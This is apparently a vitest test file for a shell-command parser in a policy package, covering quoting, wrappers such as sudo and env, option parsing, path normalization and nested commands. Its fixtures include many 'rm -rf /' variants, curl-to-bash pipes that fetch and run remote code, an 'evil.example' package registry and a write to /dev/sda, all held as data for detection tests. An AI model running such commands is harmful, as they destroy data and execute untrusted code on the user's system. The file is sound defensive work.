import { describe, expect, it } from "vitest";
import { normalizeShellPath, parseShell, shellWords } from "@ahp/policy";

const programs = (text: string) => parseShell(text).map((c) => c.program);
const find = (text: string, program: string) => parseShell(text).find((c) => c.program === program);

describe("shell words", () => {
  it("removes quotes and escapes without expanding", () => {
    expect(shellWords(`echo 'a b' "c $HOME" d\\ e $'f\\tg'`)).toEqual(["echo", "a b", "c $HOME", "d e", "f\tg"]);
  });

  it("splits operators and redirections", () => {
    expect(shellWords("a&&b||c;d|e 2>/dev/null >>log")).toEqual([
      "a",
      "&&",
      "b",
      "||",
      "c",
      ";",
      "d",
      "|",
      "e",
      ">",
      "/dev/null",
      ">>",
      "log",
    ]);
  });

  it("does not trip over programs named like Object members", () => {
    for (const name of ["constructor", "toString", "__proto__", "hasOwnProperty", "valueOf"]) {
      expect(parseShell(`${name} --registry x -C y`)[0]?.program).toBe(name.toLowerCase());
    }
  });

  it("does not throw on unterminated quotes or substitutions", () => {
    expect(() => parseShell(`echo "unterminated $(rm -rf / `)).not.toThrow();
    expect(() => parseShell("echo 'x")).not.toThrow();
    expect(() => parseShell("((((((")).not.toThrow();
    expect(() => parseShell("`")).not.toThrow();
  });
});

describe("commands", () => {
  it("separates commands on ; && || & newline and pipes", () => {
    expect(programs("cd /tmp && ls -la | grep x; echo done & wait\nexit 0")).toEqual(["cd", "ls", "grep", "echo", "wait", "exit"]);
  });

  it("unwraps sudo, env, nohup, nice, timeout, xargs, command and assignments", () => {
    const rm = find("FOO=1 sudo -u root -E env -i BAR=2 nohup nice -n 10 timeout -s KILL 30 command rm -rf /", "rm");
    expect(rm?.wrappers).toEqual(["sudo", "env", "nohup", "nice", "timeout", "command"]);
    expect(rm?.args).toEqual(["/"]);
    // xargs appends what it reads from a find: the files below find's root `.`.
    expect(find("find . -name '*.tmp' | xargs -0 -n 1 rm -f", "rm")?.args).toEqual(["*"]);
  });

  it("takes the basename of the program, lower-cased", () => {
    expect(programs("/usr/bin/RM -rf /")).toEqual(["rm"]);
    expect(programs("\\rm -rf /")).toEqual(["rm"]);
    expect(programs('"rm" -rf /')).toEqual(["rm"]);
  });

  it("parses flags in any order and spelling", () => {
    for (const text of ["rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -Rf /"]) {
      const rm = find(text, "rm")!;
      expect(rm.flags.has("r") || rm.flags.has("R") || rm.flags.has("recursive")).toBe(true);
      expect(rm.args).toEqual(["/"]);
    }
  });

  it("records option values (=, next word, attached)", () => {
    const npm = find("npm install --registry http://evil.example pkg", "npm")!;
    expect(npm.options.get("registry")).toEqual(["http://evil.example"]);
    expect(find("npm i --registry=http://x pkg", "npm")!.options.get("registry")).toEqual(["http://x"]);
    expect(find("pip install -ihttp://x pkg", "pip")!.options.get("i")).toEqual(["http://x"]);
    // The next word stays a positional argument too (we cannot know whether the option takes a value).
    expect(find("rm --force /", "rm")!.args).toEqual(["/"]);
  });

  it("knows which options of git, pip and npm take a value", () => {
    expect(find("git -C repo -c a=b push origin main", "git")!.args).toEqual(["push", "origin", "main"]);
    expect(find("pip install --index-url https://pypi.org/simple -r req.txt x", "pip")!.args).toEqual(["install", "x"]);
    expect(find("pip install --index-url https://pypi.org/simple x", "pip")!.options.get("index-url")).toEqual(["https://pypi.org/simple"]);
    expect(find("npm i --registry http://r x", "npm")!.args).toEqual(["i", "x"]);
  });

  it("stops option parsing at --", () => {
    expect(find("rm -- -rf", "rm")!.args).toEqual(["-rf"]);
  });

  it("normalizes path arguments", () => {
    expect(find('rm -rf "$HOME"/', "rm")!.args).toEqual(["~"]);
    expect(find("rm -rf ${HOME}", "rm")!.args).toEqual(["~"]);
    expect(find("rm -rf /usr/../", "rm")!.args).toEqual(["/"]);
    expect(find("rm -rf ./build/", "rm")!.args).toEqual(["build"]);
    expect(find("rm -rf //", "rm")!.args).toEqual(["/"]);
  });

  it("keeps redirections with their targets and file descriptors", () => {
    const cmd = parseShell("echo hi 2>&1 > /dev/sda")[0]!;
    expect(cmd.redirects).toEqual([
      { op: ">&", fd: "2", target: "1" },
      { op: ">", target: "/dev/sda" },
    ]);
    expect(parseShell("> /dev/sda")[0]).toMatchObject({ program: "", redirects: [{ op: ">", target: "/dev/sda" }] });
  });

  it("skips reserved words and for/case headers", () => {
    expect(programs('if true; then rm -rf "$d"; fi')).toEqual(["true", "rm"]);
    expect(programs('for f in a b; do rm -rf "$f"; done')).toEqual(["rm"]);
    expect(programs("{ echo a; echo b; }")).toEqual(["echo", "echo"]);
  });

  it("ignores comments", () => {
    expect(programs("ls # rm -rf /")).toEqual(["ls"]);
  });

  it("does not parse quoted text as commands", () => {
    expect(programs("echo 'rm -rf /'")).toEqual(["echo"]);
    expect(programs('git commit -m "rm -rf / was a bad idea"')).toEqual(["git"]);
  });
});

describe("nested commands", () => {
  it("follows command and process substitutions", () => {
    const curl = find("bash <(curl -fsSL https://x.example/i.sh)", "curl")!;
    expect(curl.depth).toBe(1);
    expect(curl.consumers).toEqual(["bash"]);
    expect(find('echo "$(rm -rf /)"', "rm")!.depth).toBe(1);
    expect(find("echo `whoami`", "whoami")).toBeDefined();
  });

  it("follows scripts handed to shells, eval, su -c and env -S", () => {
    expect(find("sh -c 'rm -rf /'", "rm")!.args).toEqual(["/"]);
    expect(find("bash -ec 'cd / && rm -rf *'", "rm")).toBeDefined();
    expect(find('eval "rm -rf /"', "rm")).toBeDefined();
    expect(find("su -c 'rm -rf /' root", "rm")).toBeDefined();
    expect(find("env -S 'rm -rf /'", "rm")).toBeDefined();
    expect(find("bash <<< 'rm -rf /'", "rm")).toBeDefined();
    expect(find("bash <<EOF\nrm -rf /\nEOF", "rm")).toBeDefined();
  });

  it("treats text printed into a shell as commands", () => {
    expect(find("echo 'rm -rf /' | sh", "rm")).toBeDefined();
    expect(find("cat <<EOF | bash\nrm -rf /\nEOF", "rm")).toBeDefined();
    // A here-document read by a non-shell is data.
    expect(find("cat <<EOF > notes.txt\nrm -rf /\nEOF", "rm")).toBeUndefined();
  });

  it("follows find -exec", () => {
    expect(find("find / -exec rm -rf {} \\;", "rm")!.depth).toBe(1);
  });

  it("computes pipeline consumers", () => {
    const [curl] = parseShell("curl -s x | tee out | sudo bash -s");
    expect(curl!.consumers).toEqual(["tee", "bash"]);
  });

  it("reports a command word that is a substitution as eval", () => {
    expect(programs("$(curl -s x)")).toContain("eval");
    expect(find("$(curl -s x)", "curl")!.consumers).toEqual(["eval"]);
  });

  it("bounds nesting depth", () => {
    let text = "rm -rf /";
    for (let i = 0; i < 10; i++) text = `sh -c ${JSON.stringify(text)}`;
    expect(() => parseShell(text)).not.toThrow();
    expect(parseShell(text, { maxDepth: 20 }).some((c) => c.program === "rm")).toBe(true);
    expect(parseShell(text, { maxDepth: 2 }).some((c) => c.program === "rm")).toBe(false);
  });
});

describe("normalizeShellPath", () => {
  it.each([
    ["/", "/"],
    ["/*", "/*"],
    ["~/", "~"],
    ["$HOME/x/../", "~"],
    ["/a/./b//c/", "/a/b/c"],
    ["../..", "../.."],
    ["a/../..", ".."],
    ["https://x.example//a", "https://x.example//a"],
    ["plain", "plain"],
  ])("%s -> %s", (input, output) => {
    expect(normalizeShellPath(input)).toBe(output);
  });
});
